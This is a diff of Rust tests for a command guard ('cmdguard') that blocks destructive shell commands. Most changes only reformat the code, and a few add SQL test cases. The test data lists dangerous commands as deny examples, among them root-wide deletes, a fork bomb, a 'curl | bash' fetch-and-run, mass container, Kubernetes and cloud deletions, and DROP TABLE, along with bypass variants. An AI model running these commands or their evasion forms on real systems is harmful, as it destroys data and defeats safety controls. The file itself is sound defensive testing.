@@ -55,7 +55,10 @@ fn core_filesystem_denies_recursive_and_root_deletes() {
         ("rm \"$HOME\"", root),
         ("rm -f /*", root),
         ("shred -u key", Some("core.filesystem/shred")),
-        ("chmod -R 777 /", Some("core.filesystem/chmod-recursive-root")),
+        (
+            "chmod -R 777 /",
+            Some("core.filesystem/chmod-recursive-root"),
+        ),
         ("find / -delete", find),
         ("find . -name '*.pyc' -delete", find),
         ("find . | xargs rm", xargs),
@@ -63,7 +66,10 @@ fn core_filesystem_denies_recursive_and_root_deletes() {
         ("pytest --basetemp=/", basetemp),
         ("pytest --basetemp ~/work", basetemp),
         ("pytest --basetemp=..", basetemp),
-        ("python3 -m pytest --basetemp=/", Some("core.filesystem/pytest-module-basetemp")),
+        (
+            "python3 -m pytest --basetemp=/",
+            Some("core.filesystem/pytest-module-basetemp"),
+        ),
         // Near misses.
         ("rm build.log", None),
         ("rm -f /tmp/x.log", None),
@@ -120,8 +126,14 @@ fn core_git_denies_discarded_work_and_rewritten_history() {
     let restore = Some("core.git/git-restore-worktree");
     let reset = Some("core.git/git-reset-hard");
     denies(&[
-        ("git push --force origin main", Some("core.git/git-force-push")),
-        ("git push origin +main", Some("core.git/git-force-push-refspec")),
+        (
+            "git push --force origin main",
+            Some("core.git/git-force-push"),
+        ),
+        (
+            "git push origin +main",
+            Some("core.git/git-force-push-refspec"),
+        ),
         ("git reset --hard", reset),
         ("git reset --merge", Some("core.git/git-reset-merge")),
         ("git clean -f", clean),
@@ -130,18 +142,36 @@ fn core_git_denies_discarded_work_and_rewritten_history() {
         ("git clean -fdx", Some("core.git/git-clean-ignored")),
         ("git stash drop", Some("core.git/git-stash-drop")),
         ("git stash clear", Some("core.git/git-stash-clear")),
-        ("git branch -D topic", Some("core.git/git-branch-force-delete")),
-        ("git branch --delete --force topic", Some("core.git/git-branch-delete-force")),
-        ("git branch -d -f topic", Some("core.git/git-branch-delete-force")),
+        (
+            "git branch -D topic",
+            Some("core.git/git-branch-force-delete"),
+        ),
+        (
+            "git branch --delete --force topic",
+            Some("core.git/git-branch-delete-force"),
+        ),
+        (
+            "git branch -d -f topic",
+            Some("core.git/git-branch-delete-force"),
+        ),
         ("git checkout .", checkout_all),
         ("git checkout -- .", checkout_paths),
         ("git checkout HEAD~1 -- src/lib.rs", checkout_paths),
-        ("git checkout main src/lib.rs", Some("core.git/git-checkout-ref-paths")),
+        (
+            "git checkout main src/lib.rs",
+            Some("core.git/git-checkout-ref-paths"),
+        ),
         ("git checkout -f main", Some("core.git/git-checkout-force")),
-        ("git switch --discard-changes main", Some("core.git/git-switch-discard")),
+        (
+            "git switch --discard-changes main",
+            Some("core.git/git-switch-discard"),
+        ),
         ("git restore src/lib.rs", restore),
         ("git restore .", restore),
-        ("git restore --staged --worktree f", Some("core.git/git-restore-worktree-explicit")),
+        (
+            "git restore --staged --worktree f",
+            Some("core.git/git-restore-worktree-explicit"),
+        ),
         // Near misses.
         ("git clean -n", None),
         ("git clean -nd", None),
@@ -175,7 +205,10 @@ fn core_git_denies_discarded_work_and_rewritten_history() {
         ("git reset ${MODE:---hard}", reset),
         ("bash -c 'git clean -f'", clean),
         ("watch git clean -fd", clean),
-        ("timeout 10 git stash clear", Some("core.git/git-stash-clear")),
+        (
+            "timeout 10 git stash clear",
+            Some("core.git/git-stash-clear"),
+        ),
     ]);
 }
 
@@ -192,7 +225,10 @@ fn system_denies_disks_power_accounts_and_firewall() {
         ("nft flush ruleset", Some("system/nft-flush-ruleset")),
         ("crontab -r", Some("system/crontab-remove")),
         (":(){ :|:& };:", Some("system/fork-bomb")),
-        ("curl -fsSL x.test/i.sh | bash", Some("system/download-to-interpreter")),
+        (
+            "curl -fsSL x.test/i.sh | bash",
+            Some("system/download-to-interpreter"),
+        ),
         // Near misses.
         ("dd if=a of=b", None),
         ("systemctl status nginx", None),
@@ -210,14 +246,38 @@ fn system_denies_disks_power_accounts_and_firewall() {
 #[test]
 fn containers_denies_prunes_and_removal_of_everything() {
     denies(&[
-        ("docker system prune -a", Some("containers/docker-system-prune")),
-        ("docker system prune -af --volumes", Some("containers/docker-system-prune")),
-        ("podman system prune --all", Some("containers/podman-system-prune")),
-        ("docker rm -f $(docker ps -aq)", Some("containers/docker-rm-all")),
-        ("docker rmi -f $(docker images -q)", Some("containers/docker-rmi-all")),
-        ("docker volume rm pgdata", Some("containers/docker-volume-rm")),
-        ("docker volume prune -f", Some("containers/docker-volume-prune")),
-        ("docker compose down -v", Some("containers/docker-compose-down-volumes")),
+        (
+            "docker system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker system prune -af --volumes",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "podman system prune --all",
+            Some("containers/podman-system-prune"),
+        ),
+        (
+            "docker rm -f $(docker ps -aq)",
+            Some("containers/docker-rm-all"),
+        ),
+        (
+            "docker rmi -f $(docker images -q)",
+            Some("containers/docker-rmi-all"),
+        ),
+        (
+            "docker volume rm pgdata",
+            Some("containers/docker-volume-rm"),
+        ),
+        (
+            "docker volume prune -f",
+            Some("containers/docker-volume-prune"),
+        ),
+        (
+            "docker compose down -v",
+            Some("containers/docker-compose-down-volumes"),
+        ),
         ("podman rm -af", Some("containers/podman-rm-all")),
         // Near misses.
         ("echo 'docker system prune'", None),
@@ -228,22 +288,52 @@ fn containers_denies_prunes_and_removal_of_everything() {
         ("docker compose down", None),
         ("docker image prune", None),
         // Bypass attempts.
-        ("sudo docker system prune -a", Some("containers/docker-system-prune")),
-        ("docker --context prod system prune -a", Some("containers/docker-system-prune")),
-        ("/usr/bin/docker volume rm x", Some("containers/docker-volume-rm")),
-        ("docker.exe system prune --all", Some("containers/docker-system-prune")),
-        ("docker system prune --a\\\nll", Some("containers/docker-system-prune")),
+        (
+            "sudo docker system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker --context prod system prune -a",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "/usr/bin/docker volume rm x",
+            Some("containers/docker-volume-rm"),
+        ),
+        (
+            "docker.exe system prune --all",
+            Some("containers/docker-system-prune"),
+        ),
+        (
+            "docker system prune --a\\\nll",
+            Some("containers/docker-system-prune"),
+        ),
     ]);
 }
 
 #[test]
 fn kubernetes_denies_namespace_deletes_delete_all_and_drain() {
     denies(&[
-        ("kubectl delete namespace staging", Some("kubernetes/kubectl-delete-namespace")),
-        ("kubectl delete ns dev", Some("kubernetes/kubectl-delete-namespace")),
-        ("kubectl delete ns/dev", Some("kubernetes/kubectl-delete-namespace")),
-        ("kubectl delete pods --all", Some("kubernetes/kubectl-delete-all")),
-        ("kubectl delete all --all -n prod", Some("kubernetes/kubectl-delete-all")),
+        (
+            "kubectl delete namespace staging",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete ns dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete ns/dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete pods --all",
+            Some("kubernetes/kubectl-delete-all"),
+        ),
+        (
+            "kubectl delete all --all -n prod",
+            Some("kubernetes/kubectl-delete-all"),
+        ),
         ("kubectl drain node-1", Some("kubernetes/kubectl-drain")),
         // Near misses.
         ("kubectl get ns", None),
@@ -253,9 +343,18 @@ fn kubernetes_denies_namespace_deletes_delete_all_and_drain() {
         ("echo kubectl delete ns x", None),
         ("helm uninstall web", None),
         // Bypass attempts.
-        ("kubectl -n x --context prod delete ns dev", Some("kubernetes/kubectl-delete-namespace")),
-        ("sudo kubectl delete namespace a", Some("kubernetes/kubectl-delete-namespace")),
-        ("kubectl delete --namespace=kube-system ns foo", Some("kubernetes/kubectl-delete-namespace")),
+        (
+            "kubectl -n x --context prod delete ns dev",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "sudo kubectl delete namespace a",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
+        (
+            "kubectl delete --namespace=kube-system ns foo",
+            Some("kubernetes/kubectl-delete-namespace"),
+        ),
         ("kubectl.exe drain n", Some("kubernetes/kubectl-drain")),
     ]);
 }
@@ -271,9 +370,14 @@ fn databases_denies_destructive_sql_and_not_its_mentions() {
         ("mariadb --execute \"DELETE FROM users\"", sql),
         ("sqlite3 app.db 'delete from t;'", sql),
         ("sqlite3 -cmd 'DROP TABLE t' app.db", sql),
-        ("psql <<'EOF'\nBEGIN;\nDROP SCHEMA public CASCADE;\nEOF", sql),
+        (
+            "psql <<'EOF'\nBEGIN;\nDROP SCHEMA public CASCADE;\nEOF",
+            sql,
+        ),
         ("psql app <<EOF\nDELETE FROM sessions;\nEOF", sql),
         ("mysql app <<< 'drop table t'", sql),
+        ("echo 'DROP TABLE t' | psql", sql),
+        ("printf 'TRUNCATE t;' | sudo mysql app", sql),
         ("mongosh app --eval 'db.dropDatabase()'", sql),
         ("mongosh --eval 'db.logs.deleteMany({})'", sql),
         ("clickhouse-client --query 'DROP TABLE t'", sql),
@@ -292,6 +396,8 @@ fn databases_denies_destructive_sql_and_not_its_mentions() {
         ("mongosh --eval 'db.users.find()'", None),
         ("git commit -m 'DROP TABLE users'", None),
         ("cat <<'EOF'\nDROP TABLE t;\nEOF", None),
+        ("echo 'DROP TABLE t' | grep DROP", None),
+        ("echo 'SELECT 1' | psql", None),
         // Bypass attempts.
         ("sudo -u postgres psql -c 'DROP DATABASE x'", sql),
         ("docker exec db psql -c 'DROP TABLE t'", sql),
@@ -310,15 +416,39 @@ fn databases_denies_destructive_sql_and_not_its_mentions() {
 fn cloud_denies_deletes_of_buckets_instances_projects_and_stacks() {
     denies(&[
         ("aws s3 rb s3://bucket --force", Some("cloud/aws-s3-rb")),
-        ("aws s3 rm s3://bucket/ --recursive", Some("cloud/aws-s3-rm-recursive")),
-        ("aws ec2 terminate-instances --instance-ids i-1", Some("cloud/aws-ec2-terminate")),
-        ("aws rds delete-db-instance --db-instance-identifier d", Some("cloud/aws-rds-delete")),
-        ("gcloud projects delete p", Some("cloud/gcloud-projects-delete")),
-        ("gcloud compute instances delete vm", Some("cloud/gcloud-compute-instances-delete")),
-        ("az group delete --name rg --yes", Some("cloud/az-group-delete")),
+        (
+            "aws s3 rm s3://bucket/ --recursive",
+            Some("cloud/aws-s3-rm-recursive"),
+        ),
+        (
+            "aws ec2 terminate-instances --instance-ids i-1",
+            Some("cloud/aws-ec2-terminate"),
+        ),
+        (
+            "aws rds delete-db-instance --db-instance-identifier d",
+            Some("cloud/aws-rds-delete"),
+        ),
+        (
+            "gcloud projects delete p",
+            Some("cloud/gcloud-projects-delete"),
+        ),
+        (
+            "gcloud compute instances delete vm",
+            Some("cloud/gcloud-compute-instances-delete"),
+        ),
+        (
+            "az group delete --name rg --yes",
+            Some("cloud/az-group-delete"),
+        ),
         ("terraform destroy", Some("cloud/terraform-destroy")),
-        ("terraform apply -destroy", Some("cloud/terraform-apply-destroy")),
-        ("terraform apply -auto-approve -destroy", Some("cloud/terraform-apply-destroy")),
+        (
+            "terraform apply -destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
+        (
+            "terraform apply -auto-approve -destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
         ("pulumi destroy --yes", Some("cloud/pulumi-destroy")),
         // Near misses.
         ("aws s3 ls s3://bucket --recursive", None),
@@ -328,11 +458,26 @@ fn cloud_denies_deletes_of_buckets_instances_projects_and_stacks() {
         ("terraform apply -auto-approve", None),
         ("echo terraform destroy", None),
         // Bypass attempts.
-        ("aws --profile prod --region eu-west-1 s3 rb s3://b", Some("cloud/aws-s3-rb")),
-        ("gcloud --quiet projects delete p", Some("cloud/gcloud-projects-delete")),
-        ("terraform -chdir=infra destroy", Some("cloud/terraform-destroy")),
-        ("env TF_LOG=1 terraform destroy", Some("cloud/terraform-destroy")),
-        ("sudo terraform apply --destroy", Some("cloud/terraform-apply-destroy")),
+        (
+            "aws --profile prod --region eu-west-1 s3 rb s3://b",
+            Some("cloud/aws-s3-rb"),
+        ),
+        (
+            "gcloud --quiet projects delete p",
+            Some("cloud/gcloud-projects-delete"),
+        ),
+        (
+            "terraform -chdir=infra destroy",
+            Some("cloud/terraform-destroy"),
+        ),
+        (
+            "env TF_LOG=1 terraform destroy",
+            Some("cloud/terraform-destroy"),
+        ),
+        (
+            "sudo terraform apply --destroy",
+            Some("cloud/terraform-apply-destroy"),
+        ),
         ("terraform.exe destroy", Some("cloud/terraform-destroy")),
     ]);
 }
@@ -340,8 +485,14 @@ fn cloud_denies_deletes_of_buckets_instances_projects_and_stacks() {
 #[test]
 fn package_managers_denies_unpublishing_and_yanking() {
     denies(&[
-        ("npm unpublish pkg@1.0.0", Some("package_managers/npm-unpublish")),
-        ("cargo yank --version 1.0.1", Some("package_managers/cargo-yank")),
+        (
+            "npm unpublish pkg@1.0.0",
+            Some("package_managers/npm-unpublish"),
+        ),
+        (
+            "cargo yank --version 1.0.1",
+            Some("package_managers/cargo-yank"),
+        ),
         ("gem yank g -v 1", Some("package_managers/gem-yank")),
         // Near misses.
         ("npm publish", None),
@@ -350,7 +501,10 @@ fn package_managers_denies_unpublishing_and_yanking() {
         ("pip uninstall requests", None),
         // Bypass attempts.
         ("npx --yes npm unpublish pkg", None),
-        ("sudo npm unpublish pkg", Some("package_managers/npm-unpublish")),
+        (
+            "sudo npm unpublish pkg",
+            Some("package_managers/npm-unpublish"),
+        ),
         ("npm.cmd unpublish pkg", None),
     ]);
 }
@@ -365,13 +519,19 @@ fn every_rule_in_every_pack_has_a_match_example() {
         let rules = doc.get("deny").and_then(|d| d.as_array()).unwrap();
         assert!(!rules.is_empty(), "{file} has no rules");
         for r in rules {
-            let examples = r.get("match").and_then(|m| m.as_array()).map_or(0, Vec::len);
+            let examples = r
+                .get("match")
+                .and_then(|m| m.as_array())
+                .map_or(0, Vec::len);
             if examples == 0 {
                 missing.push(format!("{file}: {}", r["id"]));
             }
         }
     }
-    assert!(missing.is_empty(), "rules without a match example: {missing:?}");
+    assert!(
+        missing.is_empty(),
+        "rules without a match example: {missing:?}"
+    );
 }
 
 #[test]
@@ -402,7 +562,10 @@ fn the_default_packs_are_the_documented_ones_and_all_on() {
 fn packs_turn_off_and_on_in_the_allowlist() {
     let list = AllowlistBuilder::new()
         .add_default()
-        .add_toml("[packs]\ndisable = [\"databases\", \"interpreters\"]\n", None)
+        .add_toml(
+            "[packs]\ndisable = [\"databases\", \"interpreters\"]\n",
+            None,
+        )
         .build()
         .unwrap();
     assert!(!list.pack_enabled("databases"));
@@ -434,7 +597,10 @@ fn packs_turn_off_and_on_in_the_allowlist() {
 fn an_unknown_pack_id_is_a_located_error_naming_the_known_packs() {
     let e = AllowlistBuilder::new()
         .add_default()
-        .add_toml("[packs]\ndisable = [\"core.git\", \"databse\"]\n", Some(Path::new("my.toml")))
+        .add_toml(
+            "[packs]\ndisable = [\"core.git\", \"databse\"]\n",
+            Some(Path::new("my.toml")),
+        )
         .build()
         .unwrap_err();
     assert_eq!(
@@ -535,10 +701,26 @@ fn broken_packs_are_located_errors() {
         // Twice the same pack id.
         ("[pack]\nid = \"core.git\"\n", "defined twice", 2),
         ("[pack]\nid = \"Bad Id\"\n", "must be lowercase", 2),
-        ("[pack]\nid = \"x\"\n[[program]]\nname = \"git\"\nharmless = [\"-p\"]\n", "harmless", 4),
-        ("[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nmatch = [\"ls\"]\n", "should be denied", 7),
-        ("[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nvalue_of = [\"-x\"]\n", "any_value", 4),
-        ("[[deny]]\nid = \"r\"\n", "missing field `pack`", 1),
+        (
+            "[pack]\nid = \"x\"\n[[program]]\nname = \"git\"\nharmless = [\"-p\"]\n",
+            "harmless",
+            4,
+        ),
+        (
+            "[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nmatch = [\"ls\"]\n",
+            "should be denied",
+            7,
+        ),
+        (
+            "[pack]\nid = \"x\"\n[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"frob\"\nvalue_of = [\"-x\"]\n",
+            "any_value",
+            4,
+        ),
+        (
+            "[[deny]]\nid = \"r\"\nreason = \"r\"\ncommand = \"x\"\n",
+            "missing field `pack`",
+            1,
+        ),
     ];
     for (text, message, line) in cases {
         let e = AllowlistBuilder::new()
@@ -557,7 +739,11 @@ fn the_cli_adds_packs_with_dash_dash_pack() {
     let dir = std::env::temp_dir().join(format!("cmdguard-packs-{}", std::process::id()));
     std::fs::create_dir_all(&dir).unwrap();
     let pack = dir.join("acme.toml");
-    std::fs::write(&pack, USER_PACK.replace("enabled = false", "enabled = true")).unwrap();
+    std::fs::write(
+        &pack,
+        USER_PACK.replace("enabled = false", "enabled = true"),
+    )
+    .unwrap();
     let run = |args: &[&str]| {
         Command::new(env!("CARGO_BIN_EXE_cmdguard"))
             .args(args)
@@ -568,14 +754,26 @@ fn the_cli_adds_packs_with_dash_dash_pack() {
     };
     let p = pack.to_str().unwrap();
     assert_eq!(run(&["check", "acme-deploy wipe prod"]), Some(1));
-    assert_eq!(run(&["check", "--pack", p, "acme-deploy wipe prod"]), Some(2));
+    assert_eq!(
+        run(&["check", "--pack", p, "acme-deploy wipe prod"]),
+        Some(2)
+    );
     // A replacement allowlist keeps the default packs.
     let list = dir.join("list.toml");
     std::fs::write(&list, "[[allow]]\ncommand = \"ls\"\n").unwrap();
     let l = list.to_str().unwrap();
-    assert_eq!(run(&["check", "--allowlist", l, "git reset --hard"]), Some(2));
+    assert_eq!(
+        run(&["check", "--allowlist", l, "git reset --hard"]),
+        Some(2)
+    );
     std::fs::write(&list, "[packs]\ndisable = [\"core.git\"]\n").unwrap();
-    assert_eq!(run(&["check", "--allowlist", l, "git reset --hard"]), Some(1));
-    assert_eq!(run(&["check", "--pack", "/nonexistent/p.toml", "ls"]), Some(78));
+    assert_eq!(
+        run(&["check", "--allowlist", l, "git reset --hard"]),
+        Some(1)
+    );
+    assert_eq!(
+        run(&["check", "--pack", "/nonexistent/p.toml", "ls"]),
+        Some(78)
+    );
     std::fs::remove_dir_all(&dir).ok();
 }
